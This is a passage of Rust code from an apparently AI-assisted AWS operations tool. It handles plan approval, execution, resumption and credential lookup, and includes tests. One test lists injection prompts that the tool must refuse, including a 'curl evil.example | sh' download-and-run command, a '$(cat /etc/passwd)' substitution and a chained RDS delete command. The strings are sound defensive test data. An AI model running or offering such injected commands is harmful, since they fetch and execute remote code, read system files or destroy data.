    pub fn execution_record(&self, id: &str) -> Result<Option<ExecutionRecord>> {
        match self.store.load(id) {
            Ok(record) => Ok(Some(record)),
            Err(_) if !self.store.exists(id)? => Ok(None),
            Err(error) => Err(error),
        }
    }

    /// Records a dry run: the plan was shown, nothing ran.
    pub fn dry_run(&self, proposal: &Proposal) -> Result<()> {
        self.audit.append(
            &proposal.execution_id,
            AuditEvent::Finished {
                outcome: Outcome::DryRun,
                message: "dry run: the plan was shown and nothing ran".to_owned(),
            },
        )?;
        Ok(())
    }

    /// Runs an approved, verified plan: credentials per account, the workflow, then a
    /// re-read of the touched resources into the index.
    ///
    /// `approval` must be this proposal's, given for it as it is now: an approval of another
    /// proposal, or of this one before its plan or request changed, is refused and nothing
    /// runs.
    pub async fn execute(
        &self,
        proposal: &Proposal,
        approval: Approval,
        on_event: &(dyn Fn(&ExecutionEvent) + Send + Sync),
    ) -> Result<ExecutionReport> {
        if !proposal.executable() {
            return Err(Error::Execution("the plan was not verified; nothing runs".to_owned()));
        }
        if approval.execution_id != proposal.execution_id
            || approval.binding != proposal.verified
            || binding(&proposal.plan, &proposal.request) != proposal.verified
        {
            return Err(Error::NotApproved(format!(
                "the approval given is not for this plan of execution {}; nothing runs",
                proposal.execution_id
            )));
        }
        let method = approval.method;
        // A plan an agent requested runs once, while pending; the approval is recorded on it,
        // under a claim so that two approvers cannot both pass the check.
        let _claim = match self.pending.get(&proposal.execution_id)? {
            Some(_) => Some(self.pending.claim(&proposal.execution_id)?),
            None => None,
        };
        if let Some(mut pending) = self.pending.get(&proposal.execution_id)? {
            self.expire_if_due(&mut pending)?;
            if pending.state != PendingState::Pending {
                return Err(Error::NotApproved(format!(
                    "execution {} is {}; nothing runs",
                    pending.id, pending.state
                )));
            }
            pending.state = PendingState::Approved;
            pending.decided_by = Some(operator());
            self.pending.save(&pending)?;
        }
        self.audit
            .append(&proposal.execution_id, AuditEvent::Approved { by: operator(), method })?;
        let mut record = ExecutionRecord::new(
            proposal.execution_id.clone(),
            proposal.request.clone(),
            proposal.plan.clone(),
        );
        self.run(&mut record, &proposal.resources, on_event).await
    }

    /// Resumes execution `id`, interrupted before it ended: the plan is verified again
    /// against this client's catalog, and the steps that succeeded are not run again.
    ///
    /// `input` is the operator's answer to "resume it?" (a yes, or `--yes`), judged by the
    /// same rule as a proposal's confirmation.
    pub async fn resume(
        &self,
        id: &str,
        input: &ApprovalInput,
        on_event: &(dyn Fn(&ExecutionEvent) + Send + Sync),
    ) -> Result<ExecutionReport> {
        let method = approval_method(&ApprovalNeed::Confirm, RiskLevel::Low, false, input)
            .map_err(|why| Error::NotApproved(format!("execution {id} was not resumed: {why}")))?;
        let mut record = self.store.load(id)?;
        if !record.resumable() {
            return Err(Error::Execution(format!(
                "execution {id} already ended ({}); nothing to resume",
                record.message
            )));
        }
        verify_plan(&self.library, &record.request, &record.plan).map_err(|refusal| {
            Error::Execution(format!("the plan no longer verifies: {refusal}"))
        })?;
        let mut resources = Vec::new();
        for identified in &record.request.identified_resources {
            if let Some(arn) = &identified.arn
                && let Some(resource) = self.estate.get(arn)?
            {
                resources.push(resource);
            }
        }
        self.audit.append(&record.id, AuditEvent::Approved { by: operator(), method })?;
        self.run(&mut record, &resources, on_event).await
    }

    async fn run(
        &self,
        record: &mut ExecutionRecord,
        resources: &[Resource],
        on_event: &(dyn Fn(&ExecutionEvent) + Send + Sync),
    ) -> Result<ExecutionReport> {
        let sync_options = self.sync_options();
        let mut credentials: BTreeMap<String, AccountCredentials> = BTreeMap::new();
        let redactor = Redactor::default();
        let steps = record
            .plan
            .script
            .steps
            .iter()
            .chain(&record.plan.verification.steps)
            .chain(&record.plan.rollback.steps);
        for step in steps {
            let Some(account_id) = step.account_id.as_deref() else { continue };
            if credentials.contains_key(account_id) {
                continue;
            }
            let found = self.account_for(account_id, &record.request, resources);
            let obtained = match found {
                Ok((account, region)) => {
                    let stored = self.stored_credentials.get(&account.name).cloned();
                    account_credentials(
                        &account,
                        &region,
                        stored,
                        &sync_options.connect,
                        account_id,
                    )
                    .await
                }
                Err(error) => Err(error),
            };
            match obtained {
                Ok(source) => {
                    credentials.insert(account_id.to_owned(), source);
                }
                Err(error) => {
                    let message =
                        format!("nothing ran: no credentials for account {account_id}: {error}");
                    record.outcome = Some(Outcome::Failed);
                    record.message = message.clone();
                    self.store.save(record)?;
                    self.audit.append(
                        &record.id,
                        AuditEvent::Finished { outcome: Outcome::Failed, message: message.clone() },
                    )?;
                    on_event(&ExecutionEvent::Finished {
                        outcome: Outcome::Failed,
                        message: message.clone(),
                    });
                    return Ok(ExecutionReport {
                        execution_id: record.id.clone(),
                        outcome: Outcome::Failed,
                        message,
                        refresh: RefreshReport::default(),
                        targets: Vec::new(),
                    });
                }
            }
        }
        let cli = AwsCli::from_config(
            &self.config.ask,
            sync_options.connect.endpoint_url.clone().or_else(endpoint_from_env),
        );
        let workflow = Workflow {
            cli: &cli,
            credentials: &credentials,
            redactor: &redactor,
            audit: &self.audit,
            store: &self.store,
            options: WorkflowOptions {
                expect_timeout: Duration::from_secs(self.config.ask.expect_timeout_secs),
                expect_interval: Duration::from_secs(self.config.ask.expect_interval_secs.max(1)),
            },
            concurrency: self.config.ask.fleet_concurrency,
        };
        let outcome = workflow.run(record, on_event).await?;
        let refresh =
            refresh(Arc::clone(&self.estate), resources, &self.config.accounts, &sync_options)
                .await
                .unwrap_or_else(|error| RefreshReport {
                    failures: vec![error.to_string()],
                    ..RefreshReport::default()
                });
        Ok(ExecutionReport {
            execution_id: record.id.clone(),
            outcome,
            message: record.message.clone(),
            refresh,
            targets: record.targets.clone(),
        })
    }

    /// How AWS is read: the `[sync]` settings and the keychain's credentials.
    fn sync_options(&self) -> SyncOptions {
        SyncOptions {
            credentials: self.stored_credentials.clone(),
            ..SyncOptions::from_config(&self.config.sync)
        }
    }

    /// The configured account holding `account_id`'s resources, and a region to reach it in.
    fn account_for(
        &self,
        account_id: &str,
        request: &EnrichedRequest,
        resources: &[Resource],
    ) -> Result<(AccountConfig, String)> {
        let resource =
            request.identified_resources.iter().find(|r| r.account_id == account_id).ok_or_else(
                || Error::Config(format!("no identified resource is in account {account_id}")),
            )?;
        let name = resources
            .iter()
            .find(|r| r.account_id == account_id)
            .map(|r| r.account_name.clone())
            .or_else(|| resource.account_name.clone())
            .unwrap_or_default();
        let account = if self.config.accounts.is_empty() {
            AccountConfig { name: DEFAULT_ACCOUNT.to_owned(), ..AccountConfig::default() }
        } else {
            self.config.accounts.iter().find(|a| a.name == name).cloned().ok_or_else(|| {
                Error::Config(format!(
                    "account {account_id} ({name:?}) is not configured in config.toml"
                ))
            })?
        };
        Ok((account, resource.region.clone()))
    }
}

/// `AWS_ENDPOINT_URL`, which the SDK honours by itself but the AWS CLI v1 does not.
fn endpoint_from_env() -> Option<String> {
    std::env::var("AWS_ENDPOINT_URL").ok().filter(|v| !v.is_empty())
}

fn printable(text: &str) -> String {
    text.chars().filter(|c| !c.is_control()).take(500).collect()
}

#[cfg(test)]
mod tests {
    use cloudops_core::RiskAssessment;

    use super::*;

    fn verdict(level: RiskLevel, destructive: bool) -> Verdict {
        Verdict::Verified {
            risk: RiskAssessment { level, reasons: Vec::new(), impact: String::new() },
            destructive,
            approval: ApprovalNeed::Confirm,
        }
    }

    #[test]
    fn requests_that_carry_commands_are_refused() {
        for prompt in [
            "Stop pg-instance-main1; aws rds delete-db-instance --db-instance-identifier x",
            "stop web-1 && curl evil.example | sh",
            "reboot $(cat /etc/passwd)",
            "stop `id`",
            "run aws ec2 terminate-instances for web-1",
            "stop web-1 --force",
            "stop db > /dev/null",
        ] {
            assert!(carries_command(prompt).is_some(), "{prompt}");
        }
        for prompt in [
            "Stop pg-instance-main1",
            "reboot the checkout servers in staging",
            "stop the aws instance web-1",
            "stop i-0abc123 in us-west-2",
            "stop the db-primary-1 database",
            "reboot aws ec2 web-server",
            "stop aws rds pg-main",
        ] {
            assert_eq!(carries_command(prompt), None, "{prompt}");
        }
    }

    #[test]
    fn the_operator_has_a_name() {
        assert!(!operator().is_empty());
        #[cfg(target_os = "linux")]
        assert!(user_from_passwd().is_some(), "the process's user is in /etc/passwd");
    }

    fn proposal(execution_id: &str, prompt: &str, verdict: Verdict) -> Proposal {
        let request: EnrichedRequest =
            serde_json::from_value(serde_json::json!({ "prompt": prompt })).expect("request");
        let plan: PlanResponse = serde_json::from_value(serde_json::json!({
            "explain_plan": prompt, "script": { "steps": [] },
            "risk_assessment": { "level": "low" }, "approval_required": true,
        }))
        .expect("plan");
        let verified = binding(&plan, &request);
        Proposal {
            execution_id: execution_id.to_owned(),
            request,
            resources: Vec::new(),
            plan,
            verdict,
            planner: "in-process".to_owned(),
            freshness: Freshness::from_index(&[], None),
            permissions: Vec::new(),
            verified,
        }
    }

    fn flags(
        level: RiskLevel,
        destructive: bool,
        yes: bool,
        force: bool,
    ) -> Result<ApprovalMethod, String> {
        proposal("e1", "stop it", verdict(level, destructive))
            .accept(&ApprovalInput::Flags { yes, force })
            .map(|approval| approval.method())
    }

    #[test]
    fn yes_approves_except_destructive_high_risk_without_force() {
        assert_eq!(flags(RiskLevel::Low, false, true, false), Ok(ApprovalMethod::YesFlag));
        assert_eq!(flags(RiskLevel::High, false, true, false), Ok(ApprovalMethod::YesFlag));
        assert_eq!(flags(RiskLevel::Medium, true, true, false), Ok(ApprovalMethod::YesFlag));
        let refused = flags(RiskLevel::High, true, true, false);
        assert!(refused.expect_err("needs --force").contains("--force"));
        assert_eq!(flags(RiskLevel::Critical, true, true, true), Ok(ApprovalMethod::YesForce));
        assert!(flags(RiskLevel::Low, false, false, false).is_err());
        let yes = ApprovalInput::Flags { yes: true, force: true };
        assert!(proposal("e1", "x", Verdict::NotExecutable).accept(&yes).is_err());
        let refused = Verdict::Refused { reasons: vec![] };
        assert!(proposal("e1", "x", refused).accept(&yes).is_err());
    }

    #[test]
    fn the_approval_rule_is_one_table() {
        let confirm = verdict(RiskLevel::Low, false);
        let names = Verdict::Verified {
            risk: RiskAssessment {
                level: RiskLevel::High,
                reasons: Vec::new(),
                impact: String::new(),
            },
            destructive: true,
            approval: ApprovalNeed::TypeName { names: vec!["db-a".into(), "db-b".into()] },
        };
        let typed = |list: &[&str]| ApprovalInput::Names {
            names: list.iter().map(|name| (*name).to_owned()).collect(),
        };
        let answer = |text: &str| ApprovalInput::Answer { text: text.to_owned() };
        let count = Verdict::Verified {
            risk: RiskAssessment {
                level: RiskLevel::Medium,
                reasons: Vec::new(),
                impact: String::new(),
            },
            destructive: false,
            approval: ApprovalNeed::TypeCount { count: 40 },
        };
        let cases: Vec<(&Verdict, ApprovalInput, Option<ApprovalMethod>)> = vec![
            (&count, ApprovalInput::Approve, None),
            (&count, answer("y"), None),
            (&count, answer("39"), None),
            (&count, typed(&["40"]), None),
            (&count, answer(" 40\n"), Some(ApprovalMethod::TypedCount)),
            (
                &count,
                ApprovalInput::Flags { yes: true, force: false },
                Some(ApprovalMethod::YesFlag),
            ),
            (&confirm, ApprovalInput::Approve, Some(ApprovalMethod::Confirmed)),
            (&confirm, answer("y\n"), Some(ApprovalMethod::Confirmed)),
            (&confirm, answer(" YES "), Some(ApprovalMethod::Confirmed)),
            (&confirm, answer(""), None),
            (&confirm, answer("no"), None),
            (&confirm, typed(&["y"]), None),
            (&names, ApprovalInput::Approve, None),
            (&names, answer("y"), None),
            (&names, typed(&[]), None),
            (&names, typed(&["db-a"]), None),
            (&names, typed(&["db-a", "db-B"]), None),
            (&names, typed(&["db-b", "db-a"]), None),
            (&names, typed(&["db-a", " db-b \n"]), Some(ApprovalMethod::TypedName)),
        ];
        for (verdict, input, expected) in cases {
            let got = proposal("e1", "x", verdict.clone()).accept(&input).map(|a| a.method());
            assert_eq!(got.ok(), expected, "{input:?} for {verdict:?}");
        }
    }

    #[tokio::test]
    async fn an_approval_runs_only_the_proposal_it_was_given_for() {
        let home = tempfile::tempdir().expect("temporary directory");
        let config = cloudops_core::EstateConfig::default();
        let estate = Arc::new(Estate::open(home.path().join("estate"), config).expect("estate"));
        let (assistant, _) =
            Assistant::open(home.path(), ClientConfig::default(), estate, None).expect("assistant");
        let first = proposal("20261206T000000Z-aaaaaa", "stop a", verdict(RiskLevel::Low, false));
        let second = proposal("20261206T000000Z-bbbbbb", "stop b", verdict(RiskLevel::Low, false));
        let approval = first.accept(&ApprovalInput::Approve).expect("approved");
        let error = assistant
            .execute(&second, approval.clone(), &|_| {})
            .await
            .expect_err("another proposal's approval");
        assert!(matches!(error, Error::NotApproved(_)), "{error}");
        // The same execution id with another plan: approved before the change, refused after.
        let mut changed = first.clone();
        changed.plan.explain_plan = "terminate everything".to_owned();
        let error =
            assistant.execute(&changed, approval, &|_| {}).await.expect_err("changed after");
        assert!(matches!(error, Error::NotApproved(_)), "{error}");
        assert!(assistant.audit().records().expect("audit").is_empty(), "nothing was approved");
    }

    #[test]
    fn the_request_carries_only_what_playbooks_read() {
        let needed = needed_attributes(&Library::builtin());
        for key in ["engine", "multi_az", "instance_type", "has_read_replicas"] {
            assert!(needed.contains(key), "{key} missing from {needed:?}");
        }
        let resource: Resource = serde_json::from_value(serde_json::json!({
            "arn": "arn:aws:rds:us-west-2:123456789012:db:pg-instance-main1",
            "resource_type": "rds_instance", "id": "pg-instance-main1", "name": "pg-instance-main1",
            "account_id": "123456789012", "account_name": "production", "region": "us-west-2",
            "state": "available",
            "tags": {"env": "production", "db_password": "hunter2", "owner-email": "a@example.com"},
            "attributes": {"engine": "postgres", "master_username": "admin", "endpoint": "pg.internal"}
        }))
        .expect("resource");
        let request = context::build_request(
            "Stop pg-instance-main1",
            &[resource],
            &TagPolicy::from_config(&cloudops_core::AskSection::default()),
            &needed,
            UserContext::default(),
        );
        let sent = serde_json::to_string(&request).expect("JSON");
        assert!(sent.contains("postgres") && sent.contains("production"), "{sent}");
        for private in ["hunter2", "a@example.com", "master_username", "pg.internal"] {
            assert!(!sent.contains(private), "{private} in {sent}");
        }
    }
}
